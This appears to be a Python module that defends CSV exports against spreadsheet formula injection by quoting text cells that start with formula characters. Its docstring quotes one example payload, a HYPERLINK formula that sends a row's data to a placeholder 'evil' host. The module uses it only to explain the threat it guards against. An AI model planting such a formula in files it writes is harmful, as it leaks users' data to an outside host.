"""CSV files that are safe to open in a spreadsheet: no cell is read as a formula.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, through some import paths, a tab or a carriage return) as a formula: a customer id
``=HYPERLINK("http://evil/?"&A2,"Click")`` in ``customers_scored.csv`` becomes a live link that
sends the row away. As OWASP advises (CSV injection), every *text* cell starting with one of
those characters is written with a single quote in front, which the spreadsheet shows as text.
Numbers stay numbers: a numeric column (a refund of ``-12.5``) is written as it is, so a
spreadsheet still reads it as a number.

Every CSV the report writes goes through :func:`write_csv`.

Examples
--------
>>> import pandas as pd
>>> frame = pd.DataFrame({"customer_id": ["=1+2", "C2"], "amount": [-12.5, 3.0]})
>>> print(neutralize_formulas(frame).to_csv(index=False).strip())
customer_id,amount
'=1+2,-12.5
C2,3.0
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralize_formulas", "neutralize_text", "write_csv"]

FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula."""


def neutralize_text(value: Any) -> Any:
    """Return a text cell with a ``'`` in front when it would be read as a formula; others unchanged.

    Examples
    --------
    >>> neutralize_text("=SUM(A1)"), neutralize_text("-x"), neutralize_text("ok"), neutralize_text(-1)
    ("'=SUM(A1)", "'-x", 'ok', -1)
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _is_text(series: pd.Series) -> bool:
    return (
        pd.api.types.is_object_dtype(series.dtype)
        or pd.api.types.is_string_dtype(series.dtype)
        or isinstance(series.dtype, pd.CategoricalDtype)
    )


def neutralize_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``frame`` whose text cells (and column names) cannot start a formula.

    Text columns (object, string or categorical) have :func:`neutralize_text` applied to every
    cell; numeric, boolean and datetime columns are left as they are.

    Examples
    --------
    >>> out = neutralize_formulas(pd.DataFrame({"@x": ["+1", "a"], "n": [-1, 2]}))
    >>> out.columns.tolist(), out["'@x"].tolist(), out["n"].tolist()
    (["'@x", 'n'], ["'+1", 'a'], [-1, 2])
    """
    out = frame.copy()
    for position in range(frame.shape[1]):
        values = frame.iloc[:, position]
        if not _is_text(values):
            continue
        if isinstance(values.dtype, pd.CategoricalDtype):
            values = values.astype(object)
        risky = values.map(
            lambda v: isinstance(v, str) and v.startswith(FORMULA_PREFIXES), na_action="ignore"
        )
        risky = risky.fillna(False).astype(bool).to_numpy()
        if risky.any():
            fixed = values.astype(object).copy()
            fixed[risky] = "'" + values[risky].astype(str)
            out.isetitem(position, fixed)
    out.columns = [neutralize_text(str(c)) if isinstance(c, str) else c for c in out.columns]
    return out


def write_csv(frame: pd.DataFrame, path: str | os.PathLike, **to_csv: Any) -> Path:
    r"""Write ``frame`` as a spreadsheet-safe CSV: formulas neutralised, RFC 4180 line ends.

    Rows end with CRLF (RFC 4180), so a carriage return or line feed inside a text cell is
    always quoted (Python's ``csv`` quotes only the characters of the line terminator) and a
    reader sees one row per record. No index is written.

    Parameters
    ----------
    frame : DataFrame
    path : path
    **to_csv
        Further arguments of :meth:`pandas.DataFrame.to_csv` (``float_format``, ...).

    Returns
    -------
    Path

    Examples
    --------
    >>> import tempfile
    >>> path = write_csv(pd.DataFrame({"a": ["=1"]}), Path(tempfile.mkdtemp()) / "x.csv")
    >>> path.read_bytes()
    b"a\r\n'=1\r\n"
    """
    options = {"index": False, "lineterminator": "\r\n", **to_csv}
    target = Path(path)
    neutralize_formulas(frame).to_csv(target, **options)
    return target
